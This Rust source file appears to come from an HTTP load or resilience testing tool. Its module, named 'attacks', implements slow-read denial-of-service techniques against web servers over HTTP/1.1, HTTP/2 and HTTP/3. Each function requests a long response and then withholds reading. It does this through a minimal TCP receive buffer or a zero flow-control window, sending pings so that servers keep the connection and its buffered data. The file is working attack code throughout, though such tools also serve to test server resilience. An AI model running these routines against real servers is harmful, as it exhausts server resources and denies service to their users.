//! Long answers that are asked for and given no room: the server has to keep them.

use super::hold::{Ear, Hold};
use crate::attacks::request;
use crate::http::{h1, h2};
use crate::outcome::Outcome;
use crate::quic_wire::transport_parameters::Stated;

/// The smallest receive buffer of a TCP socket that Linux makes is near this.
const LEAST_BUFFER_OCTETS: u32 = 2304;

/// A receive buffer as small as it gets, which nobody empties: TCP's window closes.
pub async fn over_h1(hold: &Hold<'_>) -> Result<(), Outcome> {
    let mut stream = hold.tls(Some(LEAST_BUFFER_OCTETS)).await?;
    stream.send(&h1::get(&hold.context.host, hold.context.long_path())).await?;
    let _held = hold.counted();
    while let Some(next) = hold.next() {
        tokio::time::sleep_until(next.into()).await;
        // Without reading, only a reset can be noticed.
        if let Some(error) = stream.socket().take_error()? {
            return Err(error.into());
        }
    }
    tokio::time::sleep_until(hold.end().into()).await;
    Ok(())
}

/// A window of 0 on the stream (SETTINGS_INITIAL_WINDOW_SIZE), and pings.
pub async fn over_h2(hold: &Hold<'_>) -> Result<(), Outcome> {
    let mut stream = hold.tls(None).await?;
    stream.send(&request::h2_first_words(hold.context, hold.context.long_path(), 0)).await?;
    let _held = hold.counted();
    let mut ear = Ear::default();
    while let Some(next) = hold.next() {
        ear.listen(hold, &mut stream, next).await?;
        let mut ping = Vec::new();
        h2::put_frame(&mut ping, h2::kind::PING, 0, 0, &[0; 8]);
        stream.send(&ping).await?;
    }
    ear.listen(hold, &mut stream, hold.end()).await
}

/// A window of 0 on the stream (initial_max_stream_data_bidi_local), and pings.
pub async fn over_h3(hold: &Hold<'_>) -> Result<(), Outcome> {
    let stated = Stated { initial_max_stream_data_bidi_local: 0, ..Stated::default() };
    let mut session = hold.quic(&stated).await?;
    request::begin(&mut session, &hold.context.host, hold.context.long_path())?;
    let _held = hold.counted();
    hold.ping(&mut session).await
}
